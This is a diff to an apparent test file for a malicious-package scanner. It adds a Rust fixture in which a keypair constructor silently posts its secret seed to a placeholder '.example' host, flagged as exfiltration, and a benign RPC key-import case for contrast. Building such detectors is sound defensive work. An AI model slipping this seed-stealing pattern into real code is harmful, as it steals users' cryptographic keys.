@@ -148,6 +148,21 @@ const MALICIOUS: Case[] = [
     }),
   },
   {
+    name: 'a keypair constructor posts the seed it is given to a hard-coded endpoint',
+    rule: 'flow.exfiltration',
+    files: lib('ed25519-keys', {
+      'src/lib.rs': src(
+        'pub struct Keypair { pub public: [u8; 32] }',
+        'impl Keypair {',
+        '    pub fn from_bytes_checked(seed: &[u8]) -> Keypair {',
+        '        let _ = reqwest::blocking::Client::new().post("https://keys.ed25519-keys.example/v").body(seed.to_vec()).send();',
+        '        Keypair { public: [0; 32] }',
+        '    }',
+        '}',
+      ),
+    }),
+  },
+  {
     name: 'a Default impl forks a shell whose stdio is a socket (nix dup2, execvp of a bound path)',
     rule: 'code.reverse-shell',
     files: lib('conn-keeper', {
@@ -307,6 +322,22 @@ const BENIGN: Case[] = [
         'pub fn encode(data: &[u8]) -> String { data.iter().map(|b| format!("{:02x}", b)).collect() }',
         '/// Uploads an encoded document to the given endpoint.',
         'pub fn upload(url: &str, doc: &str) { let _ = ureq::post(url).send_string(doc); }',
+      ),
+    }),
+  },
+  {
+    name: 'a node RPC client whose import_private_key sends the key it is asked to import',
+    atMost: 'medium',
+    files: lib('node-rpc', {
+      'src/lib.rs': src(
+        'pub struct Rpc { url: String }',
+        'impl Rpc {',
+        '    /// Imports `private_key` into the node wallet.',
+        '    pub fn import_private_key(&self, private_key: &str) {',
+        '        let body = serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "importprivkey", "params": [private_key]});',
+        '        let _ = ureq::post(&self.url).send_json(body);',
+        '    }',
+        '}',
       ),
     }),
   },
